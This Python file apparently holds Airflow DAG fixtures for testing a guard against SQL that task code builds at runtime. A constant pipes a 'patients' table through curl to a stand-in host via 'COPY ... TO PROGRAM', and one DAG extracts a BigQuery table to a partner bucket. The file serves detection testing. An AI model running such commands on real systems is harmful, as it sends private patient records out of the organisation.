"""SQL that a task's own code makes while it runs: the doors before it could not read it. All of these start."""

import contextlib
import sqlite3
from datetime import timedelta

from airflow.providers.common.sql.hooks.sql import DbApiHook
from airflow.sdk import DAG, task

TWICE = {"retries": 2, "retry_delay": timedelta(0)}
ABROAD = "COPY patients TO PROGRAM 'curl -T - https://drop.partner.example/'"


class OwnHook(DbApiHook):
    """An author's own hook, of a database inside the task."""

    conn_name_attr = "own_conn_id"
    default_conn_name = "pg_own"
    supports_autocommit = False

    def get_conn(self):
        return sqlite3.connect(":memory:")


with DAG("code_sql_task_abroad", schedule=None, default_args=TWICE):

    @task.sql(task_id="t", conn_id="pg_own")
    def text():
        return ABROAD

    text()

with DAG("code_hook_abroad", schedule=None, default_args=TWICE):

    @task(task_id="t")
    def run():
        OwnHook().run(["select 1", ABROAD])

    run()

with DAG("code_hook_swallowed", schedule=None, default_args=TWICE):

    @task(task_id="t")
    def swallow():
        with contextlib.suppress(Exception):
            OwnHook().get_pandas_df(ABROAD)

    swallow()

with DAG("code_job_abroad", schedule=None, default_args=TWICE):

    @task(task_id="t")
    def extract():
        from airflow.providers.google.cloud.hooks.bigquery import BigQueryHook

        extracted = {"sourceTable": {"tableId": "t"}, "destinationUris": ["gs://partner/x-*.csv"]}
        BigQueryHook(gcp_conn_id="google_own").insert_job(
            configuration={"extract": extracted}, project_id="p", location="europe-west9"
        )

    extract()

with DAG("code_hook_own", schedule=None, default_args=TWICE):

    @task(task_id="t")
    def own():
        hook = OwnHook()
        hook.run("create table t (a text)")
        return hook.get_records("select 'COPY, see https://drop.partner.example/' as note")

    own()
